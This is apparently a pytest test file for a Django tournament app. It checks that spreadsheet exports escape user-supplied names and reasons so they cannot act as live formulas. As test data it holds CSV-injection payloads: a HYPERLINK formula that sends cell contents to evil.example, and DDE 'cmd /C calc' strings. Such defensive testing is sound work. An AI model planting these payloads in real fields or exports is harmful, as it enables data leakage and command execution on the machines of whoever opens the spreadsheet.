"""A name typed at self sign-up never reaches a spreadsheet as a live formula.

Every CSV and XLSX export (players, standings, EMA results file, referee log) writes a text
cell that starts with = + - @ (or a tab or carriage return) with a leading ' (OWASP, "CSV
Injection"); numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from referee.models import Penalty
from tests.referee.conftest import final_sheet
from tournament.models import Table
from web.spreadsheets import safe_cell

EVIL_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_LAST = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Zoë", "Zoë"),
        ("a=b", "a=b"),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (-2.5, -2.5),
        ("", ""),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.fixture
def evil(tournament, seated_session, organiser, referee):
    """Table 1's East player signed up with formulas for names; a sheet and a penalty."""
    seat = seated_session.seats.get(table__number=1, wind=0)
    player = seat.player
    player.first_name = EVIL_FIRST
    player.last_name = EVIL_LAST
    player.save()
    table1 = Table.objects.get(tournament=tournament, number=1)
    table2 = Table.objects.get(tournament=tournament, number=2)
    final_sheet(seated_session, table1, [20000, 40000, 35000, 25000])
    final_sheet(seated_session, table2, [40000, 35000, 25000, 20000])
    Penalty.objects.create(
        tournament=tournament,
        player=player,
        session=seated_session,
        table=table1,
        kind="late",
        minutes=3,
        points=Decimal("-3"),
        reason="=2+5+cmd|' /C calc'!A0",
        created_by=referee,
    )
    return player


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    # Never a formula: openpyxl reads a formula cell back with data type "f".
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_live_text(rows):
    """No text cell starts a formula; in a CSV a number ("-10.0") is a number."""
    for row in rows:
        for value in row:
            if isinstance(value, str) and not _is_number(value):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (value, row)


def _urls(tournament):
    slug = tournament.slug
    return {
        "players": reverse("tournament:players", args=[slug]),
        "standings": reverse("tournament:standings", args=[slug]),
        "log": reverse("referee:log", args=[slug]),
    }


@pytest.mark.parametrize("page", ["players", "standings", "log"])
def test_table_exports_escape_names(client, organiser, tournament, evil, page):
    client.force_login(organiser)
    url = _urls(tournament)[page]
    csv_rows = _csv_cells(client.get(url, {"_export": "csv"}).content)
    xlsx_rows = _xlsx_cells(client.get(url, {"_export": "xlsx"}).content)
    for rows in (csv_rows, xlsx_rows):
        _assert_no_live_text(rows)
        text = [v for row in rows for v in row if isinstance(v, str)]
        assert any(v.startswith(("'" + EVIL_FIRST, "'" + EVIL_LAST)) for v in text), text


def test_standings_numbers_stay_numbers(client, tournament, evil):
    url = _urls(tournament)["standings"]
    rows = _xlsx_cells(client.get(url, {"_export": "xlsx"}).content)
    header = rows[0]
    totals = [row[header.index("Total")] for row in rows[1:]]
    # The evil player came 4th at his table: a negative total, and a number in the sheet.
    assert all(isinstance(t, int | float) for t in totals), totals
    assert min(totals) < 0
    body = client.get(url, {"_export": "csv"}).content.decode("utf-8-sig")
    assert "'-" not in body  # a negative number is not text, so it is never escaped


def test_referee_log_penalty_points_are_numbers(client, referee, tournament, evil):
    client.force_login(referee)
    url = _urls(tournament)["log"]
    rows = _xlsx_cells(client.get(url, {"_export": "xlsx"}).content)
    header = rows[0]
    points = [row[header.index("Points")] for row in rows[1:]]
    assert points == [-3]
    reasons = [row[header.index("Reason")] for row in rows[1:]]
    assert reasons == ["'=2+5+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ema_results_file_escapes_names(client, organiser, tournament, evil, fmt):
    client.force_login(organiser)
    body = client.get(reverse("tournament:ema_export", args=[tournament.slug, fmt])).content
    rows = _csv_cells(body) if fmt == "csv" else _xlsx_cells(body)
    _assert_no_live_text(rows)
    mine = [row for row in rows if "'" + EVIL_LAST in row]
    assert len(mine) == 1
    assert "'" + EVIL_FIRST in mine[0]
    points = mine[0][5]
    assert float(points) < 0  # a number: a negative total is not escaped
    if fmt == "xlsx":
        assert isinstance(points, int | float)
